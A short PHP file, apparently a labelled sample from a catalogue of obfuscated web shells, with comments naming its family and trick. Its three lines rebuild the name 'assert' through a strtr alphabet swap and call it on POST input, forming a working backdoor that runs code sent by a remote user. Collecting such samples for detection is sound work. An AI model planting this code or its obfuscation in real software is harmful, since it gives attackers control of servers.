<?php
/* Family: obfuscation/var-function
 * Style: strtr alphabet swap
 * Trait: function name decoded with strtr over a scrambled alphabet, then called on POST data */
$n = strtr('zbbf', 'zbf', 'ase');
$n .= 'rt';
$n($_POST['v']);
